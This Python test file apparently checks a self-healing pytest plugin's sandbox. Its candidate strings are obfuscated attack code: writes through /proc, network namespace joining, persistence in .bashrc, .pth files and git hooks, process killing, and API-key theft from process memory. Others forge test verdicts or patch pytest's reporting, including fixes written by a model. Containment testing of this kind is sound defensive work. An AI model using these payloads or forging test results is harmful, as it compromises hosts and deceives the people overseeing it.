"""The attacks of a security review, each a hostile candidate, on both evaluation paths.

A scripted engine (the `pytest_selfheal_make_engine` hook) proposes them before a fix
that is correct but has side effects when it is verified. Screening of plugin engines
looks only for calls a candidate adds, so these candidates reach their target through
`os.sys.modules` and `getattr` and run: what stops them is the cage. Every run checks
that no byte changed outside the scratch copy (the project with its `.git`, the
virtualenv, `$HOME`, `/tmp`), that no connection reached a listener of the host, that
the API key appears nowhere, and that no forged candidate wins.
"""

from __future__ import annotations

import base64
import json
import os
import platform
import sys
import uuid
from pathlib import Path

import pytest
from test_containment import listener, processes_under, project_files

from pytest_selfheal._evaluate.lockdown import AUDIT_ARCH
from pytest_selfheal.testing import OpenAIServer, Request, fenced, git, make_git_project

__all__ = ["listener"]  # the fixture, used by name

KEY = "sk-selfheal-" + uuid.uuid4().hex
#: Written everywhere an attack must not reach; found nowhere afterwards.
MARK = "pwned-" + uuid.uuid4().hex[:12]

OPS = '''\
import os
import shutil
import socket


def double(x):
    return x + x + 1
'''

TESTS = '''\
from calc.ops import double


def test_double():
    assert double(2) == 4


def test_double_zero():
    assert double(0) == 0
'''

# Modules and calls screening would refuse by name, reached through the module's `os`.
LOAD = 'os.sys.modules["importlib"].import_module'
WRITE = 'getattr(os, "wri" + "te")'
CONNECT = 'getattr(socket, "create_" + "connection")'

#: change description -> replacement for `return x + x + 1`; each ends wrong (x * 3),
#: so that nothing but a forged verdict could make it win.
HOSTILE = {
    "writes through /proc/PID/cwd and /proc/PID/root": f'''\
for pid in os.listdir("/proc"):
        for path in (os.path.join("/proc", pid, "cwd", "src", "calc", "ops.py"),
                     "/proc/" + pid + "/root" + os.environ["ATTACK_PROJECT"] + "/src/calc/ops.py"):
            try:
                fd = os.open(path, os.O_WRONLY | os.O_APPEND)
                {WRITE}(fd, b"# {MARK}\\n")
            except OSError:
                pass
    return x * 3''',
    "joins the session's network with setns": f'''\
libc = {LOAD}("ctypes").CDLL(None, use_errno=True)
    libc.unshare(0x10000000 | 0x40000000)
    for pid in os.listdir("/proc"):
        try:
            libc.setns(os.open("/proc/" + pid + "/ns/net", os.O_RDONLY), 0)
        except OSError:
            pass
    try:
        {CONNECT}(("127.0.0.1", int(os.environ["HOSTILE_PORT"])), timeout=2)
    except OSError:
        pass
    return x * 3''',
    "writes a .pth, .bashrc, .git/hooks and /tmp": f'''\
targets = [p + "/{MARK}.pth" for p in os.sys.path if p.endswith("site-packages")]
    targets += [os.path.expanduser("~/.bashrc"), "/tmp/{MARK}",
                os.environ["ATTACK_PROJECT"] + "/.git/hooks/post-commit"]
    for path in targets:
        try:
            {WRITE}(os.open(path, os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o755),
                    b"# {MARK}\\n")
        except OSError:
            pass
    return x * 3''',
    "writes forged events into inherited descriptors": f'''\
forged = b"".join(
        {LOAD}("json").dumps(event).encode() + b"\\n"
        for event in [{{"event": "report", "nodeid": "tests/te" + "st_ops.py::te" + "st_double",
                        "when": w, "outcome": "passed", "duration": 0.0}}
                      for w in ("setup", "call", "teardown")] + [{{"event": "finish"}}])
    for fd in range(3, 256):
        try:
            {WRITE}(fd, forged)
        except OSError:
            pass
    return x * 3''',
    "patches the probe's report function": '''\
probe = os.sys.modules.get("py" + "tes" + "t_selfheal.plugin._probe")
    if probe is not None:
        original = probe.report_event

        def forged(report):
            event = original(report)
            event["outcome"] = "passed"
            return event

        probe.report_event = forged
    return x * 3''',
    "patches pytest's TestReport": '''\
reports = os.sys.modules["_py" + "test.reports"].TestReport
    original = reports.from_item_and_call.__func__

    def forged(cls, item, call):
        report = original(cls, item, call)
        report.outcome = "passed"
        report.longrepr = None
        return report

    reports.from_item_and_call = classmethod(forged)
    return x * 3''',
    "kills every process it can see": '''\
for pid in (1, -1):
        try:
            getattr(os, "ki" + "ll")(pid, 9)
        except OSError:
            pass
    return x * 3''',
    "steals the API key": f'''\
prefix = "".join(["sk", "-selfheal-"])
    found = [os.environ.get("OPENAI_API_KEY", "")]
    for pid in os.listdir("/proc"):
        try:
            found.append(open("/proc/" + pid + "/environ", "rb").read().decode("latin-1"))
        except OSError:
            pass
    gc = {LOAD}("gc")
    for holder in gc.get_objects():
        for value in gc.get_referents(holder):
            if isinstance(value, str) and prefix in value:
                found.append(value)
    text = " ".join(found)
    keys = [text[i:i + 44] for i in range(len(text)) if text.startswith(prefix, i)
            and all(c in "0123456789abcdef" for c in text[i + 12:i + 44])
            and len(text) >= i + 44]
    key = keys[0] if keys else "no key"
    encoded = {LOAD}("base64").b64encode(key.encode()).decode()
    raise AssertionError("stolen: " + key + " " + key[::-1] + " " + encoded)''',
    "reads the restrictions it runs under": '''\
status = dict(line.split(":", 1) for line in open("/proc/self/status"))
    raise AssertionError("restricted: " + " ".join(
        name + "=" + str(int(status[name], 16))
        for name in ("NoNewPrivs", "Seccomp", "CapEff", "CapBnd")))''',
}

#: Wrong, but it reports every test passed (events written to every descriptor it has,
#: the result channel among them) and ends the process before pytest can say otherwise.
FORGER = f'''\
json = {LOAD}("json")
    forged = b"".join(json.dumps(event).encode() + b"\\n" for event in
                      [{{"event": "report", "nodeid": "tests/te" + "st_ops.py::te" + "st_" + name,
                         "when": when, "outcome": "passed", "duration": 0.0, "message": "",
                         "longrepr": ""}}
                       for name in ("double", "double_zero")
                       for when in ("setup", "call", "teardown")] + [{{"event": "finish"}}])
    for fd in range(3, 256):
        try:
            {WRITE}(fd, forged)
        except OSError:
            pass
    getattr(os, "_ex" + "it")(0)'''

#: Right everywhere but in the test session itself: its verdicts were all wrong.
SESSION_ONLY = '''\
if str(os.getpid()) == os.environ["ATTACK_SESSION"]:
        return x * 3 + 1
    return x + x'''

#: The winner: right, but on its verification run it writes into the project and its
#: `.git/hooks`, and connects to the host's listener.
SIDE_EFFECTS = f'''\
if os.environ.get("SELFHEAL_PROBE"):
        for path in (os.environ["ATTACK_PROJECT"] + "/src/calc/ops.py",
                     os.environ["ATTACK_PROJECT"] + "/.git/hooks/post-commit"):
            try:
                {WRITE}(os.open(path, os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o755),
                        b"# {MARK}\\n")
            except OSError:
                pass
        try:
            {CONNECT}(("127.0.0.1", int(os.environ["HOSTILE_PORT"])), timeout=2)
        except OSError:
            pass
    return x + x'''

CONFTEST = '''\
import os

import pytest

from pytest_selfheal.engines.base import Engine
from pytest_selfheal.models import Candidate


def pytest_configure(config):
    os.environ.setdefault("ATTACK_SESSION", str(os.getpid()))  # children inherit it

CANDIDATES = {candidates!r}


class Scripted(Engine):
    name = "scripted"

    def propose(self, task, feedback):
        if feedback:
            return []
        function = task.suspects[0].function
        source = task.sources[function.path]

        def candidate(change, body):
            return Candidate(function, source.replace("return x + x + 1", body), "hostile",
                             change, function.lineno + 1)

        return [candidate(change, body) for change, body in CANDIDATES.items()]


@pytest.hookimpl(optionalhook=True)
def pytest_selfheal_make_engine(config, settings):
    return Scripted()
'''


def tree(root: Path) -> dict[str, bytes]:
    """Every file under ``root``, `.git` included."""
    return {path.relative_to(root).as_posix(): path.read_bytes()
            for path in sorted(root.rglob("*")) if path.is_file()}


def run_attacks(pytester: pytest.Pytester, tmp_path: Path, port: int,
                candidates: dict[str, str] | None, *options: str
                ) -> tuple[pytest.RunResult, dict, Path]:
    """Heal the project with a scripted engine proposing ``candidates`` (``None``: with
    the model of ``OPENAI_BASE_URL``), and check that nothing got out."""
    root = tmp_path / "project"
    make_git_project(root, {
        "pyproject.toml": '[tool.pytest.ini_options]\npythonpath = ["src"]\n',
        ".gitignore": "__pycache__/\n.selfheal/\nreport.json\n",
        "conftest.py": "" if candidates is None else CONFTEST.format(candidates=candidates),
        "src/calc/__init__.py": "",
        "src/calc/ops.py": OPS,
        "tests/test_ops.py": TESTS,
    })
    home = tmp_path / "home"
    home.mkdir()
    (home / ".bashrc").write_text("# the user's\n")
    scratch = tmp_path / "scratch"
    scratch.mkdir()
    project_before = project_files(root)
    hooks_before = tree(root / ".git" / "hooks")
    home_before = tree(home)
    os.chdir(root)
    for name, value in {"TMPDIR": str(scratch), "HOSTILE_PORT": str(port), "HOME": str(home),
                        "ATTACK_PROJECT": str(root), "OPENAI_API_KEY": KEY}.items():
        pytester._monkeypatch.setenv(name, value)
    result = pytester.run(sys.executable, "-m", "pytest", "--selfheal", "--selfheal-report",
                          "report.json", "-p", "no:randomly", "-p", "no:cacheprovider",
                          *options, timeout=300)
    report = json.loads((root / "report.json").read_text())
    # Not a byte changed outside the scratch copy.
    assert project_files(root) == project_before
    assert tree(root / ".git" / "hooks") == hooks_before
    assert tree(home) == home_before
    assert not Path("/tmp", MARK).exists()
    assert not [path for path in sys.path if Path(path, f"{MARK}.pth").exists()]
    assert processes_under(scratch) == []
    # The key, as it is, reversed or in base64, is nowhere a user or a model sees.
    stored = "".join(path.read_bytes().decode("latin-1")
                     for path in (root / ".selfheal").rglob("*") if path.is_file())
    shown = "\n".join([*result.outlines, *result.errlines, json.dumps(report), stored])
    for form in (KEY, KEY[::-1], base64.b64encode(KEY.encode()).decode()):
        assert form not in shown
    return result, report, root


def git_branches(root: Path) -> list[str]:
    return git(root, "branch", "--format=%(refname:short)").split()


def reasons(heal: dict) -> dict[str, str]:
    found = {entry["change"]: entry["reason"] for entry in heal["leaderboard"]}
    found.update((entry["change"], entry["reason"]) for entry in heal["rejections"])
    return found


@pytest.mark.parametrize("path", ["fork", "subprocess"])
def test_attacks_are_contained_and_the_fix_with_side_effects_changes_nothing(
    pytester: pytest.Pytester, tmp_path: Path, listener, path: str
):
    port, accepted = listener
    options = ("--selfheal-evaluator", "subprocess") if path == "subprocess" else ()
    result, report, _ = run_attacks(
        pytester, tmp_path, port, {**HOSTILE, "the fix with side effects": SIDE_EFFECTS},
        *options)

    result.assert_outcomes(failed=1, passed=1)
    (heal,) = report["heals"]
    assert heal["status"] == "healed"
    assert heal["change"] == "the fix with side effects"
    why = reasons(heal)
    assert set(why) == {*HOSTILE, "the fix with side effects"}
    for change in HOSTILE:
        assert why[change] != "passed", change  # no forged verdict won
    for change in ("patches the probe's report function", "patches pytest's TestReport"):
        assert "the candidate replaced the test reporting machinery" in why[change]
    assert "stolen: no key" in why["steals the API key"]
    # What a fork inherits from its server is as much as what the launcher's child does.
    seccomp = 2 if platform.machine() in AUDIT_ARCH else 0
    assert (f"restricted: NoNewPrivs=1 Seccomp={seccomp} CapEff=0 CapBnd=0"
            in why["reads the restrictions it runs under"])
    assert accepted == []  # neither a candidate nor the winner's verification got out


def test_a_candidate_that_forges_its_events_and_ends_early_fails_verification(
    pytester: pytest.Pytester, tmp_path: Path, listener
):
    port, _ = listener
    result, report, root = run_attacks(pytester, tmp_path, port,
                                       {"forges its events": FORGER})

    result.assert_outcomes(failed=2)
    heal = report["heals"][0]
    assert heal["status"] == "unhealed"
    # Its forged events fooled the search (a fork of the session); the plain pytest run
    # of the verification did not agree.
    assert heal["reason"] == ("the best candidate failed verification: a plain pytest run "
                              "of the same tests ended before pytest returned, which its "
                              "reported outcomes contradict")
    assert heal["branch"] is None
    assert git_branches(root) == ["main"]


def test_a_fix_whose_test_fails_when_rerun_in_the_session_is_withdrawn(
    pytester: pytest.Pytester, tmp_path: Path, listener
):
    port, _ = listener
    result, report, root = run_attacks(pytester, tmp_path, port,
                                       {"passes but in the session": SESSION_ONLY})

    result.assert_outcomes(failed=2)  # test_double_zero ran on the original code again
    first, second = report["heals"]
    assert first["status"] == "unhealed"
    assert first["reason"].startswith("the healed test failed when re-run in this session "
                                      "(call: assert 7 == 4); the fix was withdrawn")
    assert first["rerun_outcome"] == "failed"
    assert first["branch"] is None
    assert first["commit"] is None
    assert git_branches(root) == ["main"]  # the branch the fix made is gone
    assert second["status"] == "skipped"


def test_attacks_written_by_a_model_are_stopped_too(
    pytester: pytest.Pytester, tmp_path: Path, listener, monkeypatch: pytest.MonkeyPatch
):
    port, accepted = listener
    replies = [*HOSTILE.values(), FORGER, SIDE_EFFECTS, "return x + x"]
    asked: list[Request] = []

    def answer(request: Request) -> str:
        asked.append(request)
        body = replies[min(len(asked), len(replies)) - 1]
        return fenced(f"def double(x):\n    {body}\n")

    with OpenAIServer(api_key=KEY) as server:
        server.respond = answer
        monkeypatch.setenv("OPENAI_BASE_URL", server.url)
        result, report, _ = run_attacks(
            pytester, tmp_path, port, None, "--selfheal-model", "fake-model",
            "--selfheal-rounds", str(len(replies)))

    result.assert_outcomes(failed=1, passed=1)
    (heal,) = report["heals"]
    assert heal["status"] == "healed"
    final = next(entry for entry in heal["leaderboard"] if entry["reason"] == "passed")
    assert final["change"] == heal["change"]
    assert heal["diff"].count("\n+") <= 3  # a real fix won, not one of the attacks
    assert accepted == []
    for request in asked:  # the key went to the model's endpoint only, in the header
        assert KEY not in request.text
